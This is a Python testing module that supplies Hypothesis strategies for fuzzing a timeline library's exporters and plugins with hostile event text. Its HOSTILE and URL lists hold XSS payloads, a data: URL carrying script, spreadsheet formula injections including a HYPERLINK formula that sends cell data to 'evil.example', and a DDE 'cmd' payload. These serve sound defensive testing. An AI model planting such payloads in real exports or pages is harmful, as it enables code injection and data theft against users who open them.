"""Hypothesis strategies and helpers for testing code that consumes timelines: exporters, plugins, views.

For plugin authors: build hostile events (markup, quotes, line breaks, formula payloads, emoji, CJK, every
EDTF shape) and fold them into a `Timeline` without a store::

    from hypothesis import given
    from timeline.testing import occurrence_lists, timeline_of

    @given(occurrence_lists)
    def test_my_exporter_survives_anything(events):
        out = io.BytesIO()
        timeline.export(timeline_of(events), "myformat", out)
        ...

Importing this module needs hypothesis (a test dependency, not a dependency of `timeline`).
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import TYPE_CHECKING, TypedDict

from hypothesis import strategies as st

from timeline._edtf_strategies import edtf_singles, edtf_whens
from timeline.events import Event, Invocation, Meeting, Occurrence, Payment, Statement, Transfer
from timeline.projections import Timeline
from timeline.store import Recorded
from timeline.values import Money, Quantity, Source

if TYPE_CHECKING:
    from collections.abc import Sequence

    from timeline.when import When

__all__ = [
    "HOSTILE",
    "T0",
    "hostile_text",
    "ids",
    "occurrence_lists",
    "occurrences",
    "records",
    "single_dates",
    "sources",
    "timeline_of",
    "whens",
]

#: Fragments that break naive exporters: markup, quotes, entities, line breaks, separators, formula payloads,
#: emoji, CJK, a line separator, a dangerous URL scheme, a byte-order mark.
HOSTILE = (
    "<script>alert(1)</script>",
    "</script>",
    '"',
    "'",
    "&",
    "&amp;",
    "&lt;b&gt;",
    "<b>bold</b>",
    "\n",
    "\r\n",
    "\r",
    ",",
    ";",
    "\t",
    "=1+2",
    "-",
    "@",
    "+",
    "😀",
    "中文",
    "\u2028",
    "javascript:alert(1)",
    " ",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-5",
    "+1",
    "\t=1",
    "\r=1",
    "\ufeff",
)

_pieces = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=8))
#: Text made of hostile fragments and arbitrary characters; never empty.
hostile_text = st.lists(_pieces, min_size=1, max_size=6).map("".join).filter(bool)
#: Event ids: 1-200 characters without surrounding whitespace, hostile ones included.
ids = hostile_text.map(lambda s: s.strip()[:200]).filter(bool)

_URLS = st.one_of(
    st.sampled_from(
        [
            "https://example.org/a?x=1&y=<2>",
            'http://example.org/"quoted"',
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "HTTPS://EXAMPLE.ORG/UPPER",
        ]
    ),
    hostile_text.map(lambda s: "https://example.org/" + s),
)
#: Sources with a URL (web, hostile or dangerous schemes) or with only a title.
sources = st.one_of(
    st.builds(Source, url=_URLS, title=st.one_of(st.none(), hostile_text)),
    st.builds(Source, title=hostile_text, publisher=st.one_of(st.none(), hostile_text)),
)

_QUALIFIERS = ("", "~", "?", "%")
_OFFSETS = ("Z", "+05:30", "-04:00", "+14:00", "-12:00", "+00:01")


def single_dates(*, times: bool = True) -> st.SearchStrategy[str]:
    """The EDTF text of one date of any form the library accepts, over its whole range of years (see
    `timeline._edtf_strategies`); a date-time only with `times`."""
    return edtf_singles(times=times)


def whens() -> st.SearchStrategy[When]:
    """Any `When` the library accepts: single dates, closed intervals, open and unknown ends, any year."""
    return edtf_whens()


class _Common(TypedDict):
    id: str
    when: When
    title: str | None
    description: str | None
    place: str | None
    actors: tuple[str, ...]
    sources: tuple[Source, ...]


@st.composite
def occurrences(draw: st.DrawFn, *, event_id: str | None = None) -> Occurrence:
    """An occurrence of any built-in type, every text field hostile or absent."""
    maybe = st.one_of(st.none(), hostile_text)
    common: _Common = {
        "id": event_id if event_id is not None else draw(ids),
        "when": draw(whens()),
        "title": draw(maybe),
        "description": draw(maybe),
        "place": draw(maybe),
        "actors": tuple(draw(st.lists(hostile_text, max_size=3))),
        "sources": tuple(draw(st.lists(sources, max_size=3))),
    }
    kind = draw(st.sampled_from(("payment", "transfer", "meeting", "statement", "invocation")))
    if kind == "payment":
        amount = draw(st.decimals(min_value=-(10**9), max_value=10**12, places=2, allow_nan=False))
        money = Money(
            value=Decimal(amount),
            currency=draw(st.sampled_from(("USD", "EUR", "JPY"))),
            approximate=draw(st.booleans()),
        )
        return Payment(payer=draw(hostile_text), payee=draw(hostile_text), amount=money, **common)
    if kind == "transfer":
        count = draw(
            st.one_of(st.none(), st.builds(Quantity, value=st.integers(0, 10**6), approximate=st.booleans()))
        )
        return Transfer(
            subjects=draw(hostile_text),
            origin=draw(hostile_text),
            destination=draw(hostile_text),
            count=count,
            **common,
        )
    if kind == "meeting":
        return Meeting(participants=tuple(draw(st.lists(hostile_text, min_size=1, max_size=3))), **common)
    if kind == "statement":
        return Statement(by=draw(hostile_text), text=draw(hostile_text), **common)
    return Invocation(by=draw(hostile_text), instrument=draw(hostile_text), against=draw(maybe), **common)


#: Lists of occurrences with distinct ids.
occurrence_lists = st.lists(occurrences(), max_size=6, unique_by=lambda e: e.id)

T0 = datetime(2025, 5, 1, 12, 0, tzinfo=UTC)


def records(events: Sequence[Event], stream: str = "story") -> list[Recorded]:
    """The events as a store would record them, one second apart from `T0`."""
    return [
        Recorded(position=i, stream=stream, version=i, recorded_at=T0 + timedelta(seconds=i), event=event)
        for i, event in enumerate(events, start=1)
    ]


def timeline_of(events: Sequence[Event], stream: str = "story") -> Timeline:
    """A Timeline folded from `events` (corrections and retractions included)."""
    return Timeline.from_records(records(events, stream))
